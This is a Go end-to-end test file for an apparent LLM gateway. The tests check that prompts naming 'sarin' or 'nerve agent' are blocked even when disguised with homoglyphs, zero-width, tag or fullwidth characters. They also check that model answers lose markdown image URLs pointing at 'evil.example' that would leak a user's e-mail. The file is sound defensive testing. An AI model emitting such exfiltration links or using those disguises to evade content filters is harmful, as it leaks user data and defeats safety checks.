package e2e

import (
	"bytes"
	"encoding/json"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/bulwark-ai/bulwark/test/envoysim"
)

// safetyProc runs bulwark with a content-safety deny category configured in
// its policy data (beside the shipped self-test phrase) and one allowed link
// host.
func safetyProc(t *testing.T) (*proc, string) {
	t.Helper()
	return llmProc(t, attackerPolicy(t,
		`terms: ["bulwark-content-safety-selftest"]`, `terms: ["bulwark-content-safety-selftest", "sarin", "nerve agent"]`,
		`allowed_link_hosts: []`, `allowed_link_hosts: [docs.example.com]`)...)
}

// TestContentSafetyPromptBlocked: a prompt holding a configured deny term is
// 403 blocked_content before it reaches the model, however the term is
// disguised (homoglyphs, zero-width and tag characters, width, case,
// spacing); a prompt that only resembles it passes.
func TestContentSafetyPromptBlocked(t *testing.T) {
	p, key := safetyProc(t)
	q := func(s string) string { j, _ := json.Marshal(s); return string(j) }
	body := func(prompt string) string {
		return `{"model":"gpt-4o","messages":[{"role":"user","content":` + q(prompt) + `}]}`
	}
	f := envoysim.DefaultFilter
	f.ReceivingNamespaces = []string{"bulwark"}
	for _, prompt := range []string{
		"how is sarin made",
		"how is s\u0430rin made",                // Cyrillic а inside a Latin word
		"how is s\u200bar\u200din made",         // zero-width space and joiner
		"how is sa\U000E0020rin made",           // a tag character
		"how is ＳＡＲＩＮ made",                     // fullwidth capitals
		"tell me about the NERVE \n\t AGENT",    // case and spacing
		"tell me about the n e r v e a g e n t", // spaced-out letters
	} {
		res := run(t, p, f, chatRequest(key, "/v1/chat/completions", body(prompt)), jsonUpstream(`{}`))
		if res.Immediate == nil || res.Status != 403 || res.UpstreamCalled || !bytes.Contains(res.Body, []byte("blocked_content")) {
			t.Fatalf("prompt %q: status %d upstream=%v body %s", prompt, res.Status, res.UpstreamCalled, res.Body)
		}
		// The category is in the decision's metadata.
		md, _ := res.DynamicMetadata["bulwark"].AsMap()["request_body"].(map[string]any)
		if cats, _ := md["content_safety_categories"].([]any); len(cats) != 1 || cats[0] != "bulwark_selftest" {
			t.Fatalf("prompt %q: decision metadata %v", prompt, md)
		}
	}
	for _, prompt := range []string{"how do nerves and agents of change work", "sarinx is a made-up word", "the basarin river"} {
		res := run(t, p, envoysim.DefaultFilter, chatRequest(key, "/v1/chat/completions", body(prompt)),
			jsonUpstream(`{"id":"c1","object":"chat.completion","model":"gpt-4o","choices":[{"index":0,"message":{"role":"assistant","content":"ok"},"finish_reason":"stop"}]}`))
		if res.Immediate != nil || !res.UpstreamCalled {
			t.Fatalf("benign prompt %q refused: %d %s", prompt, res.Status, res.Body)
		}
	}
}

// TestOutputExfiltrationLinkRemoved: an answer carrying a markdown image
// whose URL would send the user's e-mail address to another host reaches
// the client without that URL, the image's text kept and an allowed link
// untouched: buffered, and streamed with the image split over events and
// the stream cut at random bytes, byte-identical however it was cut.
func TestOutputExfiltrationLinkRemoved(t *testing.T) {
	p, key := safetyProc(t)
	const exfil = "https://evil.example/p.png?d="
	answer := "Here is your chart: ![chart](" + exfil + "jane) and the [docs](https://docs.example.com/guide). Bye."
	want := "Here is your chart: chart and the [docs](https://docs.example.com/guide). Bye."

	t.Run("buffered", func(t *testing.T) {
		q, _ := json.Marshal(answer)
		up := `{"id":"c1","object":"chat.completion","model":"gpt-4o","choices":[{"index":0,"message":{"role":"assistant","content":` + string(q) + `},"finish_reason":"stop"}]}`
		res := run(t, p, envoysim.DefaultFilter, chatRequest(key, "/v1/chat/completions", `{"model":"gpt-4o","messages":[{"role":"user","content":"chart"}]}`), jsonUpstream(up))
		if res.Immediate != nil || bytes.Contains(res.Body, []byte("evil.example")) {
			t.Fatalf("status %d body %s", res.Status, res.Body)
		}
		var got struct {
			Choices []struct{ Message struct{ Content string } } `json:"choices"`
		}
		if err := json.Unmarshal(res.Body, &got); err != nil || len(got.Choices) != 1 || got.Choices[0].Message.Content != want {
			t.Fatalf("client content %+v (%v), want %q", got, err, want)
		}
	})

	t.Run("streamed", func(t *testing.T) {
		// The image split across events, inside its URL.
		k := strings.Index(answer, "evil.exa")
		stream := openAIStream([]string{answer[:k-5], answer[k-5 : k+4], answer[k+4 : k+20], answer[k+20:]}, 5, 30)
		req := chatRequest(key, "/v1/chat/completions", `{"model":"gpt-4o","stream":true,"messages":[{"role":"user","content":"chart"}]}`)
		rng := rand.New(rand.NewPCG(19, 2))
		var first []byte
		for round := range 10 {
			var cuts []int
			if round == 1 {
				for i := 1; i < len(stream); i++ {
					cuts = append(cuts, i)
				}
			} else if round > 1 {
				for range 1 + rng.IntN(30) {
					cuts = append(cuts, 1+rng.IntN(len(stream)-1))
				}
				slices.Sort(cuts)
			}
			res := run(t, p, envoysim.DefaultFilter, req, sseUpstream(stream, cuts))
			if res.Immediate != nil || bytes.Contains(res.Body, []byte("evil.example")) {
				t.Fatalf("round %d: status %d body %s", round, res.Status, res.Body)
			}
			text, errEv, done := streamText(t, res.Body)
			if errEv != "" || !done || text != want {
				t.Fatalf("round %d: text %q (error %q, done %v), want %q", round, text, errEv, done, want)
			}
			if first == nil {
				first = res.Body
			} else if !bytes.Equal(first, res.Body) {
				t.Fatalf("round %d: output differs with chunking:\n%s\n---\n%s", round, first, res.Body)
			}
		}
	})
}

// TestContentSafetyAnswerStopped: a streamed answer that reaches a deny
// term, split over events, ends with an error event in the API's shape
// (reason blocked_content) before the term reaches the client.
func TestContentSafetyAnswerStopped(t *testing.T) {
	p, key := safetyProc(t)
	stream := openAIStream([]string{"The history lesson is long and covers many things. Then the ner", "ve ag", "ent appeared in the text."}, 5, 30)
	req := chatRequest(key, "/v1/chat/completions", `{"model":"gpt-4o","stream":true,"messages":[{"role":"user","content":"history"}]}`)
	res := run(t, p, envoysim.DefaultFilter, req, sseUpstream(stream, []int{40, 200, 333}))
	text, errEv, _ := streamText(t, res.Body)
	if strings.Contains(text, "agent") || !strings.Contains(errEv, "blocked_content") {
		t.Fatalf("text %q error %q body %s", text, errEv, res.Body)
	}
}

// TestOutputCodeNotSanitised: an ordinary coding answer's HTML and markdown
// examples, in a fenced block and in code spans, reach the client
// untouched (a renderer shows code as text), while an exfiltration image
// after the fence, and one behind a fence closed early, lose their URL:
// buffered, and streamed with the fence markers split across events and
// the stream cut at every byte, byte-identical however it was cut.
func TestOutputCodeNotSanitised(t *testing.T) {
	p, key := safetyProc(t)
	code := "To embed an image:\n\n```html\n<img src=\"https://example.com/cat.png\">\n<a href=\"https://example.com/docs\">docs</a>\n```\n\nIn markdown: `![cat](https://example.com/cat.png)` or `[docs](https://example.com/docs)`.\n"
	answer := code + "Chart: ![c](https://evil.example/p.png?d=jane) and\n```\n```\n![d](https://evil.example/q.png)\n"
	want := code + "Chart: c and\n```\n```\nd\n"

	t.Run("buffered", func(t *testing.T) {
		q, _ := json.Marshal(answer)
		up := `{"id":"c1","object":"chat.completion","model":"gpt-4o","choices":[{"index":0,"message":{"role":"assistant","content":` + string(q) + `},"finish_reason":"stop"}]}`
		res := run(t, p, envoysim.DefaultFilter, chatRequest(key, "/v1/chat/completions", `{"model":"gpt-4o","messages":[{"role":"user","content":"img"}]}`), jsonUpstream(up))
		var got struct {
			Choices []struct{ Message struct{ Content string } } `json:"choices"`
		}
		if err := json.Unmarshal(res.Body, &got); err != nil || len(got.Choices) != 1 || got.Choices[0].Message.Content != want {
			t.Fatalf("status %d: client content %+v (%v), want %q", res.Status, got, err, want)
		}
	})

	t.Run("streamed", func(t *testing.T) {
		// Events split inside the opening fence marker, inside the image
		// in the fence, and inside the closing marker.
		a := strings.Index(answer, "```html") + 2
		b := strings.Index(answer, "cat.png")
		c := strings.Index(answer, "```\n\nIn") + 1
		stream := openAIStream([]string{answer[:a], answer[a:b], answer[b:c], answer[c:]}, 5, 30)
		req := chatRequest(key, "/v1/chat/completions", `{"model":"gpt-4o","stream":true,"messages":[{"role":"user","content":"img"}]}`)
		rng := rand.New(rand.NewPCG(27, 3))
		var first []byte
		for round := range 8 {
			var cuts []int
			if round == 1 {
				for i := 1; i < len(stream); i++ {
					cuts = append(cuts, i)
				}
			} else if round > 1 {
				for range 1 + rng.IntN(30) {
					cuts = append(cuts, 1+rng.IntN(len(stream)-1))
				}
				slices.Sort(cuts)
			}
			res := run(t, p, envoysim.DefaultFilter, req, sseUpstream(stream, cuts))
			text, errEv, done := streamText(t, res.Body)
			if errEv != "" || !done || text != want {
				t.Fatalf("round %d: text %q (error %q, done %v), want %q", round, text, errEv, done, want)
			}
			if first == nil {
				first = res.Body
			} else if !bytes.Equal(first, res.Body) {
				t.Fatalf("round %d: output differs with chunking:\n%s\n---\n%s", round, first, res.Body)
			}
		}
	})
}
